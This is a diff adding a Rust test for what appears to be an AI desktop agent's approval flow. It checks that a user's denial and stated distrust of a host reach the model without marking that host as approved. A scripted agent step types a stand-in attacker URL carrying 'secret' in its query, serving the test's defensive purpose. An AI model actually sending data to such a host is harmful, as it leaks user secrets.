@@ -491,3 +491,23 @@ async fn in_auto_an_address_that_nobody_named_is_asked_about_once_the_model_has_
         assert_eq!(bench.desktop.actions().is_empty(), has_read);
     }
 }
+
+#[tokio::test]
+async fn why_the_user_says_no_is_read_with_the_no_and_makes_no_host_known() {
+    let typing = || Step::call("type", json!({ "text": "evil.test/?q=secret", "reason": "to look it up" }));
+    let mut bench = Bench::new(vec![typing(), typing(), done()]).await;
+    bench
+        .desktop
+        .edit(|scene| scene.windows = vec![WindowView { app: "Chromium".into(), ..window(1, "new") }]);
+    let run = bench.begin(ApprovalMode::Thread).await.run;
+    let asked = bench.question().await;
+    let why = "I do not trust evil.test".to_owned();
+    bench.handle.steer_run(SteerRun { run, text: why.clone() }).await.unwrap();
+    bench.handle.answer_approval(answer(&asked, Answer::Deny), Surface::Dashboard).await.unwrap();
+    let again = bench.question().await;
+    assert_eq!(again.hosts, ["evil.test"], "words against a host do not name it");
+    let read = format!("{:?}", bench.model.requests()[1].messages);
+    assert!(read.contains("the user said no") && read.contains(&why), "{read}");
+    bench.handle.answer_approval(answer(&again, Answer::Deny), Surface::Dashboard).await.unwrap();
+    assert!(matches!(bench.end().await, RunEnd::Completed { .. }));
+}
